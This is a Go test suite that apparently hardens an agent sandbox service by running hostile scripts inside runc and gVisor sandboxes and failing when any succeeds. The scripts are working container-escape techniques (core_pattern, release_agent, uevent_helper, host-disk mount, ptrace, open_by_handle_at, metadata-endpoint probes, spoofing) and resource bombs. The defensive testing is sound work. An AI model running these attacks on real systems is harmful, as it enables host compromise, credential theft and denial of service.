package hostile

import (
	"fmt"
	"net"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// py runs a Python snippet (the base template has python3).
func py(code string) string {
	return "python3 - <<'PYEOF'\n" + code + "\nPYEOF"
}

// sys is a Python prelude for raw syscalls through libc.
const sys = `import ctypes, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
def sc(nr, *a):
    r = libc.syscall(nr, *[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
    return r, ctypes.get_errno()
`

// mqOpen is a Python prelude: mq(name) makes a POSIX message queue of 10
// messages of 8 KiB (80 KiB of the user's RLIMIT_MSGQUEUE) and returns its
// descriptor, or -1.
const mqOpen = `import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
class attr(ctypes.Structure):
    _fields_ = [("flags", ctypes.c_long), ("maxmsg", ctypes.c_long), ("msgsize", ctypes.c_long), ("curmsgs", ctypes.c_long), ("pad", ctypes.c_long * 4)]
def mq(name):
    a = attr(0, 10, 8192, 0)
    return libc.mq_open(name, os.O_CREAT | os.O_RDWR, 0o600, ctypes.byref(a))`

// mustFail is a verdict for cases whose only evidence is in the output: a
// line "OK <what>" printed after a privileged step succeeded.
func mustFail(t *testing.T, _ *host, out string) {
	t.Helper()
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "OK ") {
			t.Errorf("ESCAPE-SURFACE: %s", line)
		}
	}
}

func attacks(h *host, l *lan, v *victim) []attack {
	pw := h.pwned[0]
	secret := h.secretDir + "/secret"
	hostIPs := hostAddrs()
	if len(hostIPs) == 0 {
		panic("no host addresses")
	}
	var as []attack
	add := func(a ...attack) { as = append(as, a...) }

	// /proc and /sys
	add(
		attack{name: "proc-root-of-every-pid", script: fmt.Sprintf(`for p in /proc/[0-9]*; do cat $p/root%s $p/cwd%s 2>/dev/null; done; ls /proc | head -50`, secret, secret)},
		attack{name: "proc-1-environ-and-maps", script: `cat /proc/1/environ /proc/1/maps /proc/1/mountinfo | head -100`},
		attack{name: "core-pattern-pipe", script: fmt.Sprintf(`echo '|/bin/sh -c "touch %s"' > /proc/sys/kernel/core_pattern; ulimit -c unlimited; sh -c 'kill -SEGV $$'; sleep 1`, pw)},
		attack{name: "sysctl-writes", script: `for f in /proc/sys/kernel/hostname /proc/sys/kernel/modprobe /proc/sys/vm/drop_caches /proc/sys/net/ipv4/ip_forward; do echo 3 > $f && echo "OK wrote $f"; done; true`, verdict: onlyIn("runsc", "")}, // gVisor's own /proc/sys; the host's is watched
		attack{name: "sysrq-trigger", script: `echo h > /proc/sysrq-trigger && echo "OK sysrq"; true`, verdict: mustFail},
		attack{name: "uevent-helper", script: fmt.Sprintf(`echo '#!/bin/sh' > /x.sh; echo 'touch %s' >> /x.sh; chmod +x /x.sh; echo /x.sh > /sys/kernel/uevent_helper; echo change > /sys/class/mem/null/uevent; true`, pw)},
		attack{name: "kcore-kmsg-mem", script: `for f in /proc/kcore /dev/kmsg /dev/mem /dev/kmem /dev/port; do head -c 64 $f >/dev/null 2>&1 && echo "OK read $f"; done; true`, verdict: mustFail},
		attack{name: "sys-firmware-and-debugfs", script: `ls /sys/kernel/debug /sys/firmware 2>&1 | head; cat /sys/kernel/security/lsm 2>&1; for f in /sys/kernel/debug/* ; do [ -w "$f" ] && echo "OK writable $f"; done; true`, verdict: mustFail},
	)
	// devices and mounts
	add(
		attack{name: "mknod-host-disk", script: fmt.Sprintf(`mknod /tmp/d b %s && echo "OK mknod"; dd if=/tmp/d bs=4096 count=1 2>/dev/null | sha256sum`, h.diskDev), verdict: mustFail},
		attack{name: "mount-host-disk", script: fmt.Sprintf(`mknod /tmp/d2 b %s; mkdir -p /mnt/h; mount /tmp/d2 /mnt/h && touch /mnt/h/tmp/%s && echo "OK mounted"; true`, h.diskDev, strings.TrimPrefix(pw, "/tmp/")), verdict: mustFail},
		attack{name: "mount-proc-sysfs-tmpfs", script: `mkdir -p /m1 /m2 /m3; mount -t proc p /m1 && echo "OK proc"; mount -t sysfs s /m2 && echo "OK sysfs"; mount -t tmpfs t /m3 && echo "OK tmpfs"; true`, verdict: onlyIn("runsc", "")},
		attack{name: "remount-agent-rw", script: `mount -o remount,rw /.airlock/envd 2>&1; echo x >> /.airlock/envd && echo "OK wrote agent"; cp /bin/true /.airlock/envd && echo "OK replaced agent"; true`, verdict: mustFail},
		// gVisor lets root append to a running binary: its sandbox's own
		// copy (the template's shared files are watched on the host).
		attack{name: "overwrite-proc-self-exe", script: `for p in /proc/[0-9]*; do echo x 2>/dev/null >> $p/exe && echo "OK wrote $p/exe"; done; true`, verdict: onlyIn("runsc", "")},
		attack{name: "cgroup-v1-release-agent", script: fmt.Sprintf(`mkdir -p /tmp/cg; mount -t cgroup -o memory cgroup /tmp/cg 2>&1 || mount -t cgroup -o rdma cgroup /tmp/cg; d=/tmp/cg/x; mountpoint -q /tmp/cg && mkdir $d && echo 1 > $d/notify_on_release && echo "#!/bin/sh
touch %s" > /cmd && chmod +x /cmd && echo /cmd > /tmp/cg/release_agent && sh -c "echo \$\$ > $d/cgroup.procs" && echo "OK release agent"; true`, pw), verdict: mustFail},
		attack{name: "cgroupfs-writes", script: `for f in $(find /sys/fs/cgroup -name 'memory.limit_in_bytes' -o -name memory.max -o -name pids.max -o -name cpu.cfs_quota_us -o -name cgroup.procs | head -40); do echo -1 > $f 2>/dev/null && echo "OK wrote $f"; done; true`, verdict: onlyIn("runsc", "wrote")}, // gVisor's emulated cgroupfs; the host's limits are watched
		attack{name: "cgroup-escape-move", script: `for f in /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/*/cgroup.procs /sys/fs/cgroup/*/tasks; do echo $$ > $f 2>/dev/null && echo "OK wrote $f"; done; grep -v "$E2B_SANDBOX_ID" /proc/self/cgroup | grep -q . && echo "OK left the sandbox cgroup"; cat /proc/self/cgroup; true`, verdict: onlyIn("runsc", "wrote")},
	)
	// kernel surface
	add(
		attack{name: "keyctl-read-host-key", script: py(sys + fmt.Sprintf(`
KEYCTL_GET_KEYRING_ID, KEYCTL_SEARCH, KEYCTL_READ = 0, 10, 11
r, e = sc(250, KEYCTL_GET_KEYRING_ID, -4, 0)
print("user keyring", r, e)
kid, e = sc(250, KEYCTL_SEARCH, -4, b"user", b"airlock-hostile-%s", 0)
print("search", kid, e)
if kid > 0:
    buf = ctypes.create_string_buffer(256)
    n, e = sc(250, KEYCTL_READ, kid, buf, 256)
    print("OK read key", buf.raw[:max(n,0)])
`, h.token))},
		attack{name: "bpf-prog-load", script: py(sys + `
attr = ctypes.create_string_buffer(128)
r, e = sc(321, 0, attr, 128)  # BPF_MAP_CREATE with zero attr
print("bpf", r, e)
if r >= 0 or e not in (1, 38): print("OK bpf reachable", r, e)
`), verdict: runcMustFail},
		attack{name: "io-uring-setup", script: py(sys + `
p = ctypes.create_string_buffer(120)
r, e = sc(425, 8, p)
print("io_uring_setup", r, e)
if r >= 0: print("OK io_uring")
`), verdict: runcMustFail},
		attack{name: "perf-event-open", script: py(sys + `
attr = ctypes.create_string_buffer(128)
ctypes.memmove(attr, (ctypes.c_uint32*2)(1, 128), 8)  # PERF_TYPE_SOFTWARE, size
r, e = sc(298, attr, 0, -1, -1, 0)
print("perf", r, e)
if r >= 0: print("OK perf_event_open")
`), verdict: runcMustFail},
		attack{name: "userfaultfd", script: py(sys + `
r, e = sc(323, 0)
print("userfaultfd", r, e)
if r >= 0: print("OK userfaultfd")
`), verdict: runcMustFail},
		// On runc sandbox root is an unprivileged host user (a user
		// namespace): what it writes is owned by that user on the host.
		attack{name: "root-is-not-host-root (runc)", runtimes: []string{"runc"}, script: `id -u; : > /tmp/owner-probe; echo "SANDBOX $E2B_SANDBOX_ID"`, verdict: hostOwnerVerdict},
		attack{name: "user-namespace", script: `unshare -Ur id && echo "OK unshare"; unshare -m true && echo "OK mount ns"; true`, verdict: mustFail},
		attack{name: "kernel-modules", script: py(sys+`
r, e = sc(313, -1, b"", 0)  # finit_module
print("finit_module", r, e)
if e not in (1, 9, 38): print("OK finit_module reachable", e)
`) + "\nmodprobe dummy 2>&1; true", verdict: mustFail},
		attack{name: "vsock-and-af-alg", script: py(`import socket
for fam, name in ((40, "AF_VSOCK"), (38, "AF_ALG")):
    try:
        socket.socket(fam, socket.SOCK_SEQPACKET if fam == 38 else socket.SOCK_STREAM)
        print("OK", name)
    except OSError as e:
        print(name, e)
`), verdict: mustFail},
		attack{name: "ptrace-kill-host-pid", script: fmt.Sprintf(`kill -9 %d 2>&1; ls /proc/%d 2>&1 | head -2; true`, h.victim.Process.Pid, h.victim.Process.Pid)},
		attack{name: "ptrace-attach", script: py(sys + fmt.Sprintf(`
# The host's process (its host pid; not in this pid namespace).
# (Attaching to the sandbox's own pid 1 works and stops envd: self-harm,
# not an escape, and it would wedge the rest of this suite.)
r, e = sc(101, 16, %d, 0, 0)  # PTRACE_ATTACH
print("attach", r, e)
if r == 0: print("OK attached to a host pid")
`, h.victim.Process.Pid)), verdict: mustFail},
		attack{name: "clock-and-hostname", script: `date -s '2001-01-01' 2>&1; hostname pwned 2>&1; python3 -c 'import socket; socket.sethostname("pwned2")' 2>&1; true`},
		attack{name: "open-by-handle-shocker", script: py(sys + `
buf = ctypes.create_string_buffer(136)
ctypes.memmove(buf, (ctypes.c_uint32*2)(8, 1), 8)
r, e = sc(304, -100, buf, 0)  # open_by_handle_at(AT_FDCWD, ...)
print("open_by_handle_at", r, e)
if r >= 0: print("OK open_by_handle_at")
`), verdict: mustFail},
	)
	// links and the filesystem the host touches
	add(
		attack{name: "symlinks-to-host-paths", script: fmt.Sprintf(`cd /home/user; ln -sf %s s1; ln -sf /proc/1/root%s s2; ln -sf %s s3; cat s1 s2 2>&1; echo pwn > s3 2>&1; ls -la /home/user | head`, secret, secret, pw)},
		attack{name: "hardlink-out-of-rootfs", script: fmt.Sprintf(`ln /.airlock/envd /tmp/agent 2>&1 && echo x >> /tmp/agent && echo "OK hardlinked agent"; ln %s /tmp/s 2>&1; true`, secret), verdict: mustFail},
	)
	// network: the host, the LAN, protected ranges, the other sandbox
	add(attack{name: "host-addresses-tcp-udp", script: connectAll(hostIPs, h.port)})
	for name, addr := range l.addrs {
		add(attack{name: "protected-" + strings.NewReplacer(" ", "-", "/", "-").Replace(name), script: connectAll([]string{addr}, h.port)})
	}
	add(
		attack{name: "metadata-169.254.169.254", script: `curl -sS -m 3 http://169.254.169.254/latest/meta-data/ && echo "OK metadata"; curl -sS -m 3 -H 'Metadata-Flavor: Google' http://169.254.169.254/computeMetadata/v1/ && echo "OK gce metadata"; true`, verdict: mustFail},
		attack{name: "ipv6-anything", script: fmt.Sprintf(`ip -6 addr 2>&1; curl -sS -m 3 -g 'http://[fd00:ec2::254]/' && echo "OK ipv6 metadata"; curl -sS -m 3 -g 'http://[::1]:%d/'; python3 -c 'import socket; s=socket.socket(socket.AF_INET6); s.settimeout(2); s.connect(("fd00:ec2::254", 80)); print("OK v6")' 2>&1; true`, h.port), verdict: mustFail},
		attack{name: "other-sandbox", script: fmt.Sprintf(`curl -sS -m 3 http://%s:%d/ && echo "OK other sandbox"; curl -sS -m 3 http://%s:49983/health && echo "OK other envd"; true`, v.ip, v.port, v.ip), verdict: mustFail},
		attack{name: "server-api-from-inside", script: fmt.Sprintf(`for a in %s 127.0.0.1; do curl -sS -m 3 http://$a:%s/health && echo "OK api via $a"; done; true`, v.gw, apiPort()), verdict: mustFail},
		attack{name: "raw-socket-arp-spoof", script: py(`import socket, struct
try:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
    s.bind(("eth0", 0))
    print("OK raw packet socket")
except OSError as e:
    print("AF_PACKET", e)
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    print("OK raw ip socket")
except OSError as e:
    print("SOCK_RAW", e)
`), verdict: mustFail},
		attack{name: "spoofed-source-address", script: fmt.Sprintf(`ip addr add %s/32 dev eth0 2>&1 && echo "OK added address"; ip link set eth0 address 02:00:00:00:00:01 2>&1 && echo "OK changed mac"; python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.bind(("%s", 0)); print("OK bound spoofed source")
except OSError as e: print("bind", e)
' ; true`, v.ip, v.ip), verdict: mustFail},
		attack{name: "internet-still-works (control)", script: fmt.Sprintf(`curl -sS -m 5 -o /dev/null http://%s:%d/ ; echo done`, l.public, h.port), verdict: func(t *testing.T, h *host, out string) {
			// The public address must have been reached: it proves the
			// blocked ranges above are blocked by policy.
			hits := h.takeHits()
			var rest []string
			reached := false
			for _, hit := range hits {
				if strings.Contains(hit, l.public+":") {
					reached = true
				} else {
					rest = append(rest, hit)
				}
			}
			if !reached {
				t.Errorf("control: the sandbox could not reach the public test address %s: %s", l.public, out)
			}
			for _, r := range rest {
				h.hit(r)
			}
		}},
	)
	// resources
	add(
		// The bomb runs in its own process group; a killer started before
		// it uses only builtins (no fork is possible while it runs).
		attack{name: "fd-bomb", script: py(`import os
fds = []
try:
    while True: fds.append(os.open("/dev/null", os.O_RDONLY))
except OSError as e: print("stopped at", len(fds), e)
`), verdict: func(t *testing.T, h *host, out string) {
			var n int
			if i := strings.Index(out, "stopped at"); i >= 0 {
				fmt.Sscanf(out[i+len("stopped at"):], "%d", &n)
			}
			if n == 0 || n > 1<<20 {
				t.Errorf("fd bomb not bounded: %q", clip(out))
			}
		}},
		// The sandbox's disk is its own filesystem of the template's size
		// (10 GiB): asking for more fails at once, writing fills only it.
		attack{name: "disk-fill", timeout: 120 * time.Second, script: `fallocate -l 64G /big 2>&1 && echo "OK fallocated 64G"; rm -f /big
df -k / | tail -1; dd if=/dev/zero of=/fill bs=1M count=256 2>&1 | tail -1; fallocate -l 32G /fill2 2>&1; rm -f /fill /fill2; echo done`, verdict: diskVerdict},
		// Empty files cost inodes, not blocks: the disk's inode table (655,360
		// for 10 GiB) stops them on runc (45 s here). gVisor keeps them in
		// the sentry's memory, which the sandbox's memory limit bounds: the
		// bomb slows and then OOM-kills its own sandbox after minutes, the
		// memory-bomb case's outcome (threat model), so it runs on runc only.
		attack{name: "inode-bomb (runc: gVisor's are memory)", runtimes: []string{"runc"}, timeout: 150 * time.Second, fresh: true, script: py(`import os, time
os.makedirs("/ib", exist_ok=True)
n, end = 0, time.time() + 90
try:
    while n < 3_000_000 and time.time() < end:
        for _ in range(1000):
            os.close(os.open("/ib/%d" % n, os.O_CREAT | os.O_WRONLY, 0o644))
            n += 1
except OSError as e: print("stopped at", n, e)
print("made", n)
`), verdict: func(t *testing.T, h *host, out string) {
			if strings.Contains(out, "made 3000000") {
				t.Errorf("three million empty files fit: inodes are not bounded: %q", clip(out))
			}
			if !strings.Contains(out, "No space left") {
				t.Errorf("the inode bomb did not meet ENOSPC within 90 s: %q", clip(out))
			}
		}},
		// inotify instances are a per-user count shared up the namespace
		// tree: a sandbox holding all it can get (detached, so the verdict
		// runs while it holds them) must leave host root some.
		attack{name: "inotify-exhaustion", timeout: 60 * time.Second, script: `rm -f /tmp/ino.count; (python3 -c '
import ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
n = 0
while n < 200000 and libc.inotify_init1(0) >= 0: n += 1
open("/tmp/ino.count", "w").write(str(n))
time.sleep(15)' </dev/null >/dev/null 2>&1 &) ; i=0; while [ ! -s /tmp/ino.count ] && [ $i -lt 100 ]; do sleep 0.1; i=$((i+1)); done; echo "held $(cat /tmp/ino.count)"`, verdict: func(t *testing.T, h *host, out string) {
			fd, err := syscall.InotifyInit1(syscall.IN_CLOEXEC)
			if err != nil {
				t.Errorf("ESCAPE-DOS: with a sandbox holding inotify instances (%s), host root cannot make one: %v", strings.TrimSpace(out), err)
				return
			}
			syscall.Close(fd)
		}},
		// runc sandboxes' /proc/meminfo and the like are served by LXCFS on
		// the host, outside the sandbox's cgroup: a read flood (detached,
		// so the verdict samples while it runs) must get no more host CPU
		// through it than LXCFS's own bound. /proc/meminfo may not be
		// written, and must still show the sandbox's limit afterwards.
		attack{name: "lxcfs-read-flood (runc: gVisor's /proc is its own)", runtimes: []string{"runc"}, fresh: true, timeout: 60 * time.Second, script: `echo x > /proc/meminfo && echo "OK wrote /proc/meminfo"; umount /proc/meminfo && echo "OK unmounted the view"
(python3 -c '
import os, threading, time
def loop():
    fds = [os.open(p, os.O_RDONLY) for p in ("/proc/meminfo", "/proc/stat", "/proc/cpuinfo")]
    end = time.time() + 12
    while time.time() < end:
        for fd in fds:
            os.pread(fd, 65536, 0)
for _ in range(8):
    threading.Thread(target=loop).start()
' </dev/null >/dev/null 2>&1 &); sleep 2; echo flooding`, verdict: lxcfsFloodVerdict},
		// Pending real-time signals are another per-user count charged up
		// the user-namespace tree to host root (sigqueue over it fails): a sandbox queueing all it can (held, detached) must
		// leave host root room to queue one.
		attack{name: "sigpending-exhaustion", timeout: 60 * time.Second, script: `rm -f /tmp/sig.count; (python3 -c '
import os, signal, time
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
n = 0
try:
    while n < 200000:
        os.kill(os.getpid(), signal.SIGRTMIN); n += 1
except OSError:
    pass
open("/tmp/sig.count", "w").write(str(n))
time.sleep(15)' </dev/null >/dev/null 2>&1 &) ; i=0; while [ ! -s /tmp/sig.count ] && [ $i -lt 100 ]; do sleep 0.1; i=$((i+1)); done; echo "sent $(cat /tmp/sig.count)"`, verdict: func(t *testing.T, h *host, out string) {
			// sigqueue, which fails with EAGAIN over the count (kill still
			// marks the signal pending, without its data).
			probe := exec.Command("python3", "-c", `import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
class sigval(ctypes.Union):
    _fields_ = [("i", ctypes.c_int), ("p", ctypes.c_void_p)]
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
if libc.sigqueue(os.getpid(), signal.SIGRTMIN, sigval(1)) == 0:
    print("queued")
else:
    print("sigqueue:", os.strerror(ctypes.get_errno()))`)
			if got, err := probe.CombinedOutput(); err != nil || !strings.Contains(string(got), "queued") {
				t.Errorf("ESCAPE-DOS: with a sandbox holding pending signals (%s), host root cannot queue one: %v %s", strings.TrimSpace(out), err, got)
			}
		}},
		// POSIX message-queue bytes: the same per-user count, charged to
		// host root. The sandbox makes queues until refused (held,
		// detached); host root must still get one.
		attack{name: "mqueue-exhaustion", timeout: 60 * time.Second, script: "rm -f /tmp/mq.count; (python3 -c '" + mqOpen + `
n = 0
while n < 200 and mq(b"/q%d" % n) >= 0: n += 1
open("/tmp/mq.count", "w").write(str(n))
time.sleep(15)' </dev/null >/dev/null 2>&1 &) ; i=0; while [ ! -s /tmp/mq.count ] && [ $i -lt 100 ]; do sleep 0.1; i=$((i+1)); done; echo "queues $(cat /tmp/mq.count)"`, verdict: func(t *testing.T, h *host, out string) {
			probe := exec.Command("python3", "-c", mqOpen+`
name = b"/airlock-hostile-probe"
fd = mq(name)
print("opened" if fd >= 0 else "mq_open: " + os.strerror(ctypes.get_errno()))
libc.mq_unlink(name)`)
			if got, err := probe.CombinedOutput(); err != nil || !strings.Contains(string(got), "opened") {
				t.Errorf("ESCAPE-DOS: with a sandbox holding message queues (%s), host root cannot make one: %v %s", strings.TrimSpace(out), err, got)
			}
		}},
		attack{name: "stdout-flood-200MB", timeout: 120 * time.Second, script: `head -c 200000000 /dev/zero | tr '\0' 'x'; echo`, verdict: floodVerdict},
		// On runsc the bomb's memory (a thousand shells) can make the host
		// OOM-kill the sentry: the sandbox dies whole (threat model).
		attack{name: "fork-bomb", user: "user", timeout: 60 * time.Second, diesOn: "runsc", fresh: true, script: `(read -t 12 <> <(:); read pg < /tmp/bomb.pg; kill -9 -- -$pg; kill -9 -- -$pg) & killer=$!
setsid bash -c 'echo $$ > /tmp/bomb.pg; :(){ :|:& };:' 2>/dev/null &
wait $killer; sleep 2; kill -9 -- -$(cat /tmp/bomb.pg) 2>/dev/null; echo survived`, verdict: func(t *testing.T, h *host, out string) {
			if !strings.Contains(out, "survived") {
				t.Errorf("the bomb's sandbox did not recover: %q", clip(out))
			}
		}},
		attack{name: "memory-bomb", timeout: 60 * time.Second, diesOn: "runsc", fresh: true, script: py(`x = []
try:
    while True: x.append(bytearray(64 << 20))
except MemoryError: print("MemoryError at", len(x) * 64, "MiB")
`), verdict: func(t *testing.T, h *host, out string) {
			if strings.Contains(out, "MemoryError at") {
				var mib int
				fmt.Sscanf(out[strings.Index(out, "MemoryError at")+len("MemoryError at"):], "%d", &mib)
				if mib > 4096 {
					t.Errorf("sandbox allocated %d MiB, past its limit", mib)
				}
			}
		}},
	)
	return as
}

// diskVerdict: a 64 GiB fallocate is refused with ENOSPC, and `df /`
// shows the sandbox's own disk (at most 16 GiB), not the host's.
func diskVerdict(t *testing.T, h *host, out string) {
	if strings.Contains(out, "OK fallocated") || !strings.Contains(out, "No space left") {
		t.Errorf("a 64 GiB fallocate was not refused with ENOSPC: %q", clip(out))
	}
	for _, line := range strings.Split(out, "\n") {
		f := strings.Fields(line)
		if len(f) >= 6 && f[5] == "/" {
			if kb, err := strconv.ParseInt(f[1], 10, 64); err != nil || kb > 16<<20 {
				t.Errorf("df / inside shows %s KiB: not the sandbox's own disk", f[1])
			}
			return
		}
	}
	t.Errorf("no df line for / in %q", clip(out))
}

// hostOwnerVerdict finds the file the sandbox's root made in its upper
// layer on the host and fails if host root owns it.
func hostOwnerVerdict(t *testing.T, h *host, out string) {
	var id string
	for _, line := range strings.Split(out, "\n") {
		if v, ok := strings.CutPrefix(line, "SANDBOX "); ok {
			id = strings.TrimSpace(v)
		}
	}
	if id == "" || strings.ContainsAny(id, "/.") {
		t.Fatalf("no sandbox ID in %q", clip(out))
	}
	p := filepath.Join(os.Getenv("AIRLOCK_TEST_DATA_DIR"), "sandboxes", id, "disk", "upper", "tmp", "owner-probe")
	fi, err := os.Lstat(p)
	if err != nil {
		t.Fatalf("the sandbox root's file is not where the host expects it: %v", err)
	}
	if uid := fi.Sys().(*syscall.Stat_t).Uid; uid == 0 || uid < 65536 {
		t.Errorf("a file made by root in the sandbox belongs to host uid %d: sandbox root is a privileged host user", uid)
	}
}

// lxcfsFloodVerdict samples the CPU time of every LXCFS daemon on the host
// for 4 s while the sandbox floods it with reads.
func lxcfsFloodVerdict(t *testing.T, h *host, out string) {
	mustFail(t, h, out)
	if !strings.Contains(out, "flooding") {
		t.Fatalf("the flood did not start: %q", clip(out))
	}
	ticks := func() (n int) {
		pids, _ := filepath.Glob("/proc/[0-9]*/comm")
		for _, p := range pids {
			if comm, err := os.ReadFile(p); err != nil || strings.TrimSpace(string(comm)) != "lxcfs" {
				continue
			}
			st, err := os.ReadFile(filepath.Join(filepath.Dir(p), "stat"))
			if err != nil {
				continue
			}
			f := strings.Fields(string(st[strings.LastIndexByte(string(st), ')')+2:]))
			u, _ := strconv.Atoi(f[11]) // utime, stime: fields 14, 15
			s, _ := strconv.Atoi(f[12])
			n += u + s
		}
		return n
	}
	const window = 4 * time.Second
	t0 := ticks()
	time.Sleep(window)
	used := float64(ticks()-t0) / 100 / window.Seconds() // USER_HZ is 100
	t.Logf("LXCFS used %.2f CPUs during the flood", used)
	if used > 0.5*1.3 {
		t.Errorf("ESCAPE-DOS: a sandbox's /proc reads took %.2f host CPUs in LXCFS, outside its own limit (bound 0.5)", used)
	}
}

// floodVerdict: the 200 MB of output did not take the server with it.
func floodVerdict(t *testing.T, h *host, out string) {
	if len(out) < 200_000_000 {
		t.Errorf("only %d bytes of the flood arrived", len(out))
	}
	if rss := serverRSSMiB(); rss > 1500 {
		t.Errorf("server RSS %d MiB after a 200 MB flood", rss)
	}
}

// runcMustFail: the syscall must be refused on runc; gVisor implements it
// in its own user-space kernel, where it reaches no host kernel code.
func runcMustFail(t *testing.T, h *host, out string) {
	if strings.HasPrefix(t.Name(), "TestHostile/runc/") {
		mustFail(t, h, out)
	}
}

// onlyIn accepts "OK ..." lines mentioning allowed (all of them for "")
// on that runtime, whose own kernel confines them, and fails them elsewhere.
func onlyIn(rt, allowed string) func(*testing.T, *host, string) {
	return func(t *testing.T, h *host, out string) {
		if strings.HasPrefix(t.Name(), "TestHostile/"+rt+"/") {
			for _, line := range strings.Split(out, "\n") {
				if strings.HasPrefix(line, "OK ") && !strings.Contains(line, allowed) {
					t.Errorf("ESCAPE-SURFACE: %s", line)
				}
			}
			return
		}
		mustFail(t, h, out)
	}
}

// connectAll tries TCP and UDP to each address on port; the host-side
// listeners judge.
func connectAll(addrs []string, port int) string {
	var b strings.Builder
	for _, a := range addrs {
		fmt.Fprintf(&b, "curl -sS -m 2 -o /dev/null http://%s:%d/ 2>&1; echo udp-%s > /dev/udp/%s/%d 2>&1; ", a, port, a, a, port)
	}
	b.WriteString("sleep 1; true")
	return b.String()
}

// hostAddrs lists the host's IPv4 addresses outside loopback (the bridge's
// gateway address among them).
func hostAddrs() []string {
	var out []string
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		if ipn, ok := a.(*net.IPNet); ok && ipn.IP.To4() != nil && !ipn.IP.IsLoopback() {
			out = append(out, ipn.IP.String())
		}
	}
	return out
}

// apiPort is the port of E2B_API_URL.
func apiPort() string {
	u, err := url.Parse(os.Getenv("E2B_API_URL"))
	if err != nil || u.Port() == "" {
		return "80"
	}
	return u.Port()
}

// serverRSSMiB is the resident memory of the airlock serve process(es).
func serverRSSMiB() int {
	max := 0
	dirs, _ := filepath.Glob("/proc/[0-9]*")
	for _, d := range dirs {
		cmd, err := os.ReadFile(d + "/cmdline")
		if err != nil || !strings.Contains(string(cmd), "airlock\x00serve") {
			continue
		}
		status, _ := os.ReadFile(d + "/status")
		for _, line := range strings.Split(string(status), "\n") {
			var kb int
			if _, err := fmt.Sscanf(line, "VmRSS: %d kB", &kb); err == nil && kb/1024 > max {
				max = kb / 1024
			}
		}
	}
	return max
}
